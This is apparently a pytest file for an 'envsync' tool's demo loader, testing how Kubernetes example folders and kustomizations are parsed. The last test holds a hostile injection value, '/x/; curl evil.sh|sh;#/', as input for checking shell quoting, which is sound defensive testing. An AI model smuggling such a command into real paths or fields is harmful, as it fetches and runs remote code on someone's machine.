"""What `envsync demo --example` makes of a folder, before any emulator starts."""

from __future__ import annotations

import pathlib

import pytest

from envsync.cli import demoexample

ROOT = pathlib.Path(__file__).resolve().parents[1]
ENVSYNC_DOC = """\
apiVersion: envsync.dev/v1alpha1
kind: EnvSync
metadata: {name: app, namespace: demo}
spec: {source: {configMapRef: {name: app-env}}, target: {provider: ssm, path: /demo/app/}}
"""


def test_documents_that_are_not_objects_are_skipped_with_a_line_each(
    tmp_path: pathlib.Path,
) -> None:
    (tmp_path / "10-config.yaml").write_text("nameReference: []\n---\nkind: NoMetadata\n")
    (tmp_path / "20-envsync.yaml").write_text(ENVSYNC_DOC)
    example = demoexample.load(tmp_path, kubectl=None)
    assert [obj["kind"] for obj in example.objects] == ["EnvSync"]
    assert example.notes == [
        "Skipped: 10-config.yaml: not a Kubernetes object (no apiVersion, kind and metadata.name)",
        "Skipped: 10-config.yaml (document 2): not a Kubernetes object "
        "(no apiVersion, kind and metadata.name)",
    ]


def test_a_missing_folder_is_named(tmp_path: pathlib.Path) -> None:
    with pytest.raises(demoexample.ExampleError, match="nowhere: no such file or folder"):
        demoexample.load(tmp_path / "nowhere", kubectl=None)


def test_a_kustomization_without_kubectl_says_what_to_install() -> None:
    with pytest.raises(demoexample.ExampleError, match=r"kustomization\.yaml: .*kubectl") as err:
        demoexample.load(ROOT / "examples" / "gitops", kubectl=None)
    assert "\n" not in str(err.value)


def test_the_gitops_kustomization_renders_as_flux_and_argo_cd_would_apply_it() -> None:
    kubectl = demoexample.find_kubectl()
    if kubectl is None:
        pytest.skip("kubectl (with its built-in kustomize) is not installed")
    example = demoexample.load(ROOT / "examples" / "gitops", kubectl=kubectl)
    kinds = {obj["kind"]: obj for obj in example.objects}
    assert set(kinds) == {"ConfigMap", "EnvSync"}
    generated = kinds["ConfigMap"]["metadata"]["name"]
    assert generated.startswith("checkout-env-")
    assert kinds["EnvSync"]["spec"]["source"]["configMapRef"]["name"] == generated
    assert [n.split(":")[0] for n in example.notes] == ["Rendered", "Not applied", "Not applied"]


@pytest.mark.parametrize("example", sorted(p.name for p in (ROOT / "examples").iterdir()
                                           if p.is_dir()))  # fmt: skip
def test_every_example_holds_an_envsync_the_demo_can_apply(example: str) -> None:
    kubectl = demoexample.find_kubectl()
    folder = ROOT / "examples" / example
    if kubectl is None and (folder / "kustomization.yaml").exists():
        pytest.skip("kubectl (with its built-in kustomize) is not installed")
    loaded = demoexample.load(folder, kubectl=kubectl)
    assert any(obj["kind"] == "EnvSync" for obj in loaded.objects)
    assert not any(note.startswith("Skipped") for note in loaded.notes)


def test_the_printed_aws_line_quotes_what_the_example_spec_says() -> None:
    from envsync import aws
    from envsync.cli import democmd

    hostile = aws.Target("ssm", "/x/; curl evil.sh|sh;#/", region="us-east-1")
    line = democmd._aws_line(hostile, "http://127.0.0.1:1")
    assert "--path '/x/; curl evil.sh|sh;#/'" in line
